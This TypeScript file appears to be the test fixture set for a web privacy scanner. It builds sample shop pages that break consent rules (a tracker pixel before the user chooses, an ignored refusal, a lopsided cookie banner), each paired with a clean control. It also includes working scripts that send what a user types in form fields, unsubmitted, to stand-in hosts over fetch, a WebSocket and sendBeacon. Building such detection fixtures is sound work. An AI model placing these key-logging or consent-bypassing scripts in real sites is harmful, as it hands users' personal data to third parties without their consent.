// Consent asked for too late, not heeded, made hard, or for good; and typing that is listened to.

import { bare, chance, page, reply, script, type Technique } from "./technique.ts";

const load = `const load = (then) => {
  const pixel = new Image();
  pixel.onload = pixel.onerror = then;
  pixel.src = "https://bidder.criteo.com/pixel?" + Math.random().toString(16).slice(2, 6);
};`;
const bidder = {
  "bidder.criteo.com/pixel": reply(() => ({
    "set-cookie": `uid=${chance()}; Domain=criteo.com; Max-Age=2592000; Secure; SameSite=None`,
  })),
};
const uid = "uid (criteo.com)";
const pixel =
  /^(request GET https:\/\/bidder\.criteo\.com\/pixel\?\w+|cookie (header|jar) uid \.?criteo\.com)$/;

const early: Technique = {
  title: "a tracker and its cookie before the choice",
  visits: ["arrive", "accept"],
  site: (deed) => ({
    "shop.test/": page(
      script(
        `${load} ${deed ? "load();" : 'addEventListener("chosen", ({ detail }) => detail === "yes" && load());'}`,
      ),
    ),
    ...bidder,
  }),
  finds: {
    "third-parties-before-choice": {
      what: ["criteo.com"],
      witness: /^request GET https:\/\/bidder\.criteo\.com\//,
    },
    "identifiers-before-choice": { what: [uid], witness: pixel },
  },
};

const refusal: Technique = {
  title: "a refusal that is not honoured",
  visits: ["refuse"],
  site: (deed) => ({
    "shop.test/": page(
      script(
        `${load} addEventListener("chosen", ({ detail }) => ${deed ? "true" : 'detail === "yes"'} && load(() => load()));`,
      ),
    ),
    ...bidder,
  }),
  finds: { "refusal-not-honoured": { what: ["criteo.com", uid], witness: pixel } },
};

/** Yes is a button on the first layer; no stands behind settings, in which a purpose is ticked. Nothing brings it back. */
const trap = `<div id=consent style="position:fixed;bottom:0;left:0;right:0;padding:20px;background:#fff;border:1px solid">
  <p>We use cookies to measure how our shop is used.</p>
  <div id=first><button onclick="gone()">Accept all</button> <button onclick="more()">Settings</button></div>
  <div id=second hidden><label><input type=checkbox checked> Statistics</label>
    <button onclick="gone()">Reject all</button> <button onclick="gone()">Accept all</button></div></div>
  ${script(`const gone = () => document.getElementById("consent").remove();
    const more = () => { document.getElementById("first").remove(); document.getElementById("second").hidden = false; };`)}`;

const hard: Technique = {
  title: "a refusal that is hard, ticked beforehand, and for good",
  visits: ["refuse", "accept"],
  site: (deed) => ({ "shop.test/": deed ? bare(trap) : page() }),
  finds: {
    "refusal-harder-than-acceptance": { what: ["layer"], witness: /^choice (refuse|accept) done$/ },
    "preticked-or-missing-refusal": { what: ["preticked: Statistics"], witness: /^choice refuse done$/ },
    "no-withdrawal": { what: ["no-withdrawal"], witness: /^choice accept done$/ },
  },
};

const form = `<form action="/ask"><label>E-mail <input type=email name=mail></label>
  <label>Message <textarea name=message></textarea></label><button>Send</button></form>`;

const keys: Technique = {
  title: "key logging, by requests and encoded through a socket",
  visits: ["type"],
  site: (deed) => ({
    "shop.test/": page(
      `${form}${script(
        `const socket = new WebSocket("wss://live.test/keys");
         const post = (body) => fetch("https://keys.test/k", { method: "POST", mode: "no-cors", body });
         document.querySelector("input").addEventListener("input", ({ target }) => post(${deed ? "target.value" : "String(target.value.length)"}));
         document.querySelector("textarea").addEventListener("input", ({ target }) =>
           socket.send(JSON.stringify({ at: Date.now(), v: btoa(${deed ? "target.value.slice(0, 40)" : "target.value.length"}) })));`,
      )}`,
    ),
    "keys.test/k": "",
    "live.test/keys": "",
  }),
  finds: {
    "key-logging": {
      what: ["keys.test", "live.test"],
      witness: /^disclosure (email body https:\/\/keys\.test\/k|text message wss:\/\/live\.test\/keys)$/,
    },
  },
  both: { "third-parties-before-choice": ["live.test"] },
  beside: {
    "third-parties-before-choice": ["live.test"],
    "typed-text-before-submit": ["keys.test", "live.test"],
    "personal-data-to-third-parties": ["email → keys.test", "text → live.test"],
  },
};

const typed: Technique = {
  title: "typed text sent as a hash on a change and as the page is left, which is no key logging",
  visits: ["type"],
  site: (deed) => ({
    "shop.test/": page(
      `${form}${script(
        `const mail = document.querySelector("input");
         const digest = async (text) => Array.from(new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text))),
           (byte) => byte.toString(16).padStart(2, "0")).join("");
         mail.addEventListener("change", async () =>
           fetch("https://hash.test/k", { method: "POST", mode: "no-cors", body: ${deed ? "await digest(mail.value)" : "String(mail.value.length)"} }));
         addEventListener("pagehide", () => navigator.sendBeacon("https://left.test/k",
           JSON.stringify({ field: ${deed ? 'document.querySelector("textarea").value' : '"message"'} })));`,
      )}`,
    ),
    "hash.test/k": "",
    "left.test/k": "",
  }),
  finds: {
    "typed-text-before-submit": {
      what: ["hash.test", "left.test"],
      witness: /^disclosure (email body https:\/\/hash|text body https:\/\/left)\.test\/k$/,
    },
    "personal-data-to-third-parties": {
      what: ["email → hash.test", "text → left.test"],
      witness: /^disclosure (email body https:\/\/hash|text body https:\/\/left)\.test\/k$/,
    },
  },
};

export const choices: readonly Technique[] = [early, refusal, hard, keys, typed];
